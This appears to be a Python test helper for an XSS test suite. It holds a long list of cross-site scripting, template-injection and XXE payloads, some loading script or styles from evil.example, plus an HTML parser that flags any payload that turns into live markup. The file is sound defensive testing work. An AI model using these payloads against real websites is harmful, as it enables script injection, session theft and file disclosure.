"""Text as an attacker would type it, and a reader of pages that notices when any of it becomes markup."""

import json
from dataclasses import dataclass, field
from html.parser import HTMLParser

RUN = "window.xssmark=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    "<ScRiPt src=//evil.example/xssmark.js></sCrIpT>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror={RUN}//",
    f"<<img src=x onerror={RUN}>>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>click</maction></math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<a href="javascript:{RUN}">press</a>',
    f"[press](javascript:{RUN})",
    f"[press](JaVaScRiPt:{RUN})",
    f"[press](java\tscript:{RUN})",
    f"[press](&#106;avascript:{RUN})",
    f"[press](\x01javascript:{RUN})",
    "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cueHNzbWFyaz0xPC9zY3JpcHQ+)",
    "[press](vbscript:xssmark)",
    f"[press](//evil.example 'x\" onclick=\"{RUN}')",
    f"![picture](javascript:{RUN})",
    f'![picture" onerror="{RUN}](x)',
    f"<javascript:{RUN}>",
    f"[press][1]\n\n[1]: javascript:{RUN}",
    f"`<img src=x onerror={RUN}>`",
    f"```html onload={RUN}\n<script>{RUN}</script>\n```",
    f"$\\href{{javascript:{RUN}}}{{x}}$ and $<script>{RUN}</script>$",
    f"$$\\text{{<img src=x onerror={RUN}>}}$$",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f"| a | b |\n|---|---|\n| <svg onload={RUN}> | `|` |",
    "{{ 7|add:7 }}{% debug %}{% include 'admin/base.html' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "<!-- never closed",
    f"<![CDATA[<script>{RUN}</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<plaintext>",
    f'<iframe srcdoc="&lt;script&gt;parent.xssmark=1&lt;/script&gt;" src="javascript:{RUN}">',
    f"<object data=javascript:{RUN}><embed src=javascript:{RUN}>",
    "<base href=//evil.example/xssmark/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/xssmark">',
    "<link rel=stylesheet href=//evil.example/xssmark.css>",
    "<style>@import '//evil.example/xssmark';*{display:none}</style>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}><html onclick={RUN}>",
    "<xssmark onxssmark=1>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"x` onfocus={RUN} `",
    f'<p style="background:url(javascript:{RUN})" class=xssmark id=main>',
    "<a id=location><a id=location name=xssmark><form name=cookie>",
    f"\u202e<script>{RUN}</script>\u202c",
    f"\ufeff<script>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞",
    f"<scr\u0130pt>{RUN}</scr\u0130pt>",
    f"<\x00script>{RUN}</script>",
    f"\x08\x0b\x0c\x1b[31m<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    "\ud7ff\ufffe\uffff \U0010ffff",
)


def packed(length: int) -> tuple[str, ...]:
    """Several at once, as many as ``length`` characters hold: for pages that take a while."""
    packs = [""]
    for payload in PAYLOADS:
        if len(packs[-1]) + len(payload) >= length:
            packs.append("")
        packs[-1] = f"{packs[-1]} {payload}".strip()
    return tuple(packs)


# What a title holds, with a word before it.
PACKS = packed(290)
# All at once, for what is as long as a message.
LONG = "\n\n".join(PACKS)

# Elements that no page of ours has for a text's sake.
FORBIDDEN = {
    *("script", "style", "iframe", "object", "embed", "applet", "base", "frame", "frameset", "plaintext", "img"),
    *("xssmark", "animate", "set", "foreignobject", "maction", "mglyph", "noscript", "marquee", "video", "audio"),
}
ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "cite", "background"}
SCHEMES = ("http://", "https://", "mailto:", "/", "?", "#")


@dataclass
class Reader(HTMLParser):
    """Reads a page; ``faults`` are what no text may bring about, ``words`` all that a person could read or edit."""

    faults: list[str] = field(default_factory=list)
    words: list[str] = field(default_factory=list)
    # What has been read of a block of data.
    data: str | None = None

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        # A block of data is run by no browser. It has to be whole, so that no text in it has ended it.
        data = values.get("type") in ("application/json", "application/ld+json")
        if tag == "script" and data:
            self.data = ""
        ours = tag == "script" and (values.get("src", "").startswith("/static/") or data)
        if tag in FORBIDDEN and not ours:
            self.faults.append(self.get_starttag_text() or tag)
        for name, value in values.items():
            if name.startswith("on") or name in ("style", "srcdoc") or "xssmark" in name or not name.isascii():
                self.faults.append(f"{tag}: attribute {name}")
            address = "".join(value.split()).lower()
            if name in ADDRESSES and address and not address.startswith(SCHEMES):
                self.faults.append(f"{tag}: {name}={value}")
            if name in ("src", "action", "formaction") and address.startswith("//"):
                self.faults.append(f"{tag}: {name}={value}")
            if name == "class" and "xssmark" in value:
                self.faults.append(f"{tag}: {name}={value}")
            self.words.append(value)

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self.data is not None:
            try:
                json.loads(self.data or "null")
            except ValueError:
                self.faults.append(f"data {self.data[:60]}")
            self.data = None

    def handle_data(self, data: str) -> None:
        if self.data is not None:
            self.data += data
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data[:60]}")

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html":
            self.faults.append(f"declaration {decl[:60]}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"declaration {data[:60]}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data[:60]}")


def read(body: str) -> Reader:
    """The page ``body``, read to its end."""
    reader = Reader()
    reader.feed(body)
    reader.close()
    return reader


def squeezed(text: str) -> str:
    """``text`` without blanks and characters that are kept out of storage, for comparing what is shown."""
    return "".join(char for char in text if char.isprintable() and not char.isspace())
